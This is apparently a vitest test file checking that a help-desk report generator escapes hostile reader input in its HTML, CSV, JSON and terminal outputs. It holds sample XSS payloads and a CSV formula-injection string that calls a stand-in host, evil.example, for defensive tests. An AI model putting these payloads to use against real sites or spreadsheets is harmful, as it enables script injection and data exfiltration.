import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { parseHTML } from 'linkedom';
import { expect, test } from 'vitest';
import type { Report } from '../../src/core/insights/report.ts';
import { reportTexts } from '../../src/report/report-files.ts';
import { terminalSummary } from '../../src/report/terminal/summary.ts';

const path = join(import.meta.dirname, 'golden/hostile/report.json');
const report: Report = JSON.parse(await readFile(path, 'utf8'));
const options = { locale: 'de', siteUrl: 'https://help.example.com/' };
const files = reportTexts(report, options);
const { document } = parseHTML(files['index.html']);
/** Controls without the line break, and everything that turns or hides text. */
const unseen = /(?!\n)[\p{Cc}\u200b\u200e\u200f\u202a-\u202e\u2066-\u2069]/u;

test('markup that a reader typed is shown as text', () => {
  expect(document.querySelectorAll('script')).toHaveLength(1);
  expect(document.querySelectorAll('style')).toHaveLength(1);
  expect(document.querySelectorAll('img, iframe, object, form')).toHaveLength(0);
  const comments = [...document.querySelectorAll('.inbox blockquote')].map((e) => e.textContent);
  expect(comments).toContain('<script>document.title="pwned"</script>');
  expect(comments).toContain('"><img src=x onerror=alert(1)>');
});

test('no element got an attribute from what a reader typed', () => {
  const names = new Set(
    [...document.querySelectorAll('*')].flatMap((element) => element.getAttributeNames()),
  );
  expect([...names].filter((name) => name.startsWith('on') || name === 'style')).toEqual([]);
});

test('an address that runs a script is no link', () => {
  const links = [...document.querySelectorAll('main a:not(nav a)')].map(
    (a) => a.getAttribute('href') ?? '',
  );
  expect(links.length).toBeGreaterThan(0);
  expect(links.filter((href) => !href.startsWith('https://help.example.com/'))).toEqual([]);
});

test('marks that turn the writing direction and control characters are gone, in every output', () => {
  expect(files['index.html']).not.toMatch(unseen);
  expect(files['articles.csv'].slice(1)).not.toMatch(unseen);
  expect(files['gaps.csv'].slice(1)).not.toMatch(unseen);
  expect(files['report.json']).not.toMatch(unseen);
  expect(terminalSummary(report, options)).not.toMatch(unseen);
});

test('no cell of a spreadsheet begins a formula', () => {
  for (const csv of [files['articles.csv'], files['gaps.csv']]) {
    const cells = csv
      .slice(1)
      .split('\n')
      .flatMap((line) => line.split(';'))
      .map((cell) => cell.replace(/^"/, ''));
    expect(cells.filter((cell) => /^[=+\-@＝＋－＠\t\r]/u.test(cell))).toEqual([]);
  }
  expect(files['gaps.csv']).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`);
  expect(files['gaps.csv']).toContain(`'＝cmd`);
});

test('letters from other scripts and emoji of several parts stay whole', () => {
  const changed = structuredClone(report);
  const [first] = changed.inbox;
  if (!first) throw new Error('The hostile case has comments.');
  first.comment = 'متى يصل طلبي؟ 👩‍👧 คืนเงิน';
  expect(reportTexts(changed, options)['index.html']).toContain('متى يصل طلبي؟ 👩‍👧 คืนเงิน');
});
